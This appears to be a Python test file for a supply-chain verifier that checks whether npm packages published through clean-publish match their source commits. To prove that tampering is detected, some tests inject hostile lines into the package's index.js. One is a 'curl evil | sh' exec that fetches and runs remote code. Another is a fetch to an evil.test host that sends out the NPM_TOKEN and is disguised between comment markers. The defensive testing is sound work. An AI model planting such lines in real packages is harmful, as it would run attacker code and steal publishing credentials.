"""Packages published through clean-publish (`cleanComments`): each script is the commit's with its comments and
blank lines removed. Plain `verify PURL` vouches for such files only when they are exactly that, and only when
the repository publishes through clean-publish; a line added to the cleaned copy is still `mismatch`."""

from __future__ import annotations

import json

from ossprov import stages
from ossprov.fixtures.world import World
from ossprov.model import FileStatus, Severity, Verdict, VerifyResult
from tests.conftest import npm_project

SOURCE = """#!/usr/bin/env node
/*! nano fixture, MIT licence */
import { webcrypto as crypto } from 'node:crypto'

// A pool of random bytes, refilled when it runs out: "//" and "/*" in strings are code, not comments.
const POOL_SIZE_MULTIPLIER = 128

export let random = bytes => {
  let url = 'https://example.test//x/*y*/' // the string stays
  return crypto.getRandomValues(new Uint8Array(bytes)) /* inline */ && url
}
"""
CLEANED = """#!/usr/bin/env node
/*! nano fixture, MIT licence */
import { webcrypto as crypto } from 'node:crypto'
const POOL_SIZE_MULTIPLIER = 128
export let random = bytes => {
  let url = 'https://example.test//x/*y*/'
  return crypto.getRandomValues(new Uint8Array(bytes))  && url
}
"""


def _published(world: World, name: str, *, cleaner: bool = True):
    extra = {"devDependencies": {"clean-publish": "^4.2.0"}} if cleaner else {}
    repo, pkg = npm_project(world, f"acme/{name}", name, "1.0.0", {"index.js": SOURCE}, extra=extra)
    repo.commit("release")
    return world.npm_pack(pkg)


def _highs(result) -> list:
    return [f for f in result.findings if f.severity is Severity.HIGH]


def test_scripts_cleaned_of_comments_are_normalized(world: World) -> None:
    tarball = _published(world, "nano")
    result = stages.verify(world.publish_npm(World.tamper_npm(tarball, {"index.js": CLEANED.encode()})))
    assert not _highs(result), result.findings
    assert result.verdict is Verdict.FAITHFUL
    index = next(r for r in result.file_results if r.path == "index.js")
    assert index.status is FileStatus.NORMALIZED and "clean-publish" in index.reason


def test_a_line_added_to_the_cleaned_copy_is_mismatch(world: World) -> None:
    tarball = _published(world, "nano")
    evil = CLEANED.replace("const POOL", "require('child_process').exec('curl evil | sh')\nconst POOL")
    result = stages.verify(world.publish_npm(World.tamper_npm(tarball, {"index.js": evil.encode()})))
    assert result.verdict is Verdict.MISMATCH
    assert any(f.path == "index.js" and f.rule == "OSP101" for f in _highs(result))


def test_code_hidden_in_what_looks_like_a_comment_is_mismatch(world: World) -> None:
    """The published copy is never scanned for comments: code inside a `/* */` there is not in the source."""
    tarball = _published(world, "nano")
    evil = CLEANED.replace("const POOL", "/* */ fetch('https://evil.test/' + process.env.NPM_TOKEN) /* */\nconst POOL")
    result = stages.verify(world.publish_npm(World.tamper_npm(tarball, {"index.js": evil.encode()})))
    assert result.verdict is Verdict.MISMATCH


def test_code_removed_from_the_cleaned_copy_is_mismatch(world: World) -> None:
    tarball = _published(world, "nano")
    result = stages.verify(world.publish_npm(World.tamper_npm(tarball, {"index.js": CLEANED.replace(
        "crypto.getRandomValues(new Uint8Array(bytes))  && ", "").encode()})))
    assert result.verdict is Verdict.MISMATCH


def test_without_clean_publish_in_the_repository_a_stripped_copy_is_not_explained(world: World) -> None:
    tarball = _published(world, "plainnano", cleaner=False)
    result = stages.verify(world.publish_npm(World.tamper_npm(tarball, {"index.js": CLEANED.encode()})))
    assert any(f.path == "index.js" and f.rule == "OSP101" for f in _highs(result))


def _cleared_release(world: World, name: str, edit) -> VerifyResult:
    """A clean-publish package whose published package.json is the repository's after `edit`."""
    extra = {"devDependencies": {"clean-publish": "^4.2.0"}, "prettier": {"semi": False},
             "engines": {"node": ">=18"}, "scripts": {"test": "node test.js", "postpublish": "echo published"}}
    repo, pkg = npm_project(world, f"acme/{name}", name, "1.0.0", {"index.js": SOURCE}, extra=extra)
    repo.commit("release")
    tarball = world.npm_pack(pkg)
    manifest = json.loads((pkg / "package.json").read_text())
    edit(manifest)
    return stages.verify(world.publish_npm(World.tamper_npm(tarball, {"package.json": json.dumps(manifest).encode()})))


def _cleared(doc: dict) -> None:
    """What clean-publish writes: its fields left out, the scripts cut to the lifecycle ones it keeps."""
    del doc["devDependencies"], doc["prettier"]
    doc["scripts"] = {"postpublish": "echo published"}


def test_the_fields_clean_publish_leaves_out_are_set_aside(world: World) -> None:
    result = _cleared_release(world, "clearednano", _cleared)
    manifest = next(r for r in result.file_results if r.path == "package.json")
    assert manifest.status is FileStatus.NORMALIZED, manifest
    assert "clean-publish left out devDependencies, prettier, scripts" in manifest.reason
    assert not [f for f in result.findings if f.path == "package.json" and f.severity is not Severity.INFO]


def test_a_field_clean_publish_keeps_left_out_is_still_a_finding(world: World) -> None:
    def drop_engines(doc: dict) -> None:
        _cleared(doc)
        del doc["engines"]
    result = _cleared_release(world, "enginesnano", drop_engines)
    assert any(f.path == "package.json" and f.rule == "OSP115" and "engines" in f.message for f in result.findings)


def test_scripts_clean_publish_does_not_keep_are_still_compared(world: World) -> None:
    def keep_test(doc: dict) -> None:
        _cleared(doc)
        doc["scripts"]["test"] = "node evil.js"
    result = _cleared_release(world, "scriptsnano", keep_test)
    assert any(f.path == "package.json" and f.rule == "OSP115" and "scripts" in f.message for f in result.findings)
